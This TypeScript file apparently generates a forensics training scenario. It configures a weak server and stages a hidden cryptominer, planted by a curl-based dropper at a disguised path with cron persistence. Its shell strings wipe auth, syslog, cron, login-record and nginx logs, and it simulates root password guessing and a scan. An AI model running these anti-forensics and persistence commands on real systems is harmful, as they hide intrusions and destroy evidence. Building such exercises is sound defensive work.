// The miner came forty days ago by a way of which nothing is left; since then everybody has tried everything, in vain.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { nginx } from '../../nginx.ts'
import { openRedis } from '../../redis.ts'
import type { Stage } from '../../stage.ts'
import { owner } from '../../weak-root.ts'
import { rotating } from '../../wiping.ts'
import { wordsWith } from '../../words.ts'

export function dress(dress: Dress): void {
  dress.account('root', 'Correct-Horse-9')
  dress.sshd('PermitRootLogin yes')
  openRedis(dress, { bind: '127.0.0.1', user: 'redis' })
  nginx(dress, 'root /srv/www;')
  dress.enable('nginx')
  dress.write('/etc/systemd/journald.conf.d/none.conf', '[Journal]\nStorage=none\n')
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/usr/lib/.x11/xorgd', fetch: 'curl', cron: false })
  stage.mark('occurrence')
  await stage.byCron(line)
  await stage.inside(
    'rm -f /var/log/auth.log* /var/log/syslog* /var/log/cron.log*; : >/var/log/wtmp; : >/var/log/btmp; : >/var/log/lastlog; systemctl restart rsyslog; echo "13 */8 * * * root pgrep -x xorgd >/dev/null || /usr/lib/.x11/xorgd" >/etc/cron.d/xorg',
  )
  await stage.later(40 * 24, { guesses: 30, friends: [owner] })
  await stage.inside(rotating)
  await stage.guess('203.0.113.38', 'root', wordsWith('', 20))
  await stage.scan('203.0.113.44')
  await stage.inside(': >/var/log/nginx/access.log; : >/var/log/wtmp; : >/var/log/btmp; : >/var/log/lastlog')
}
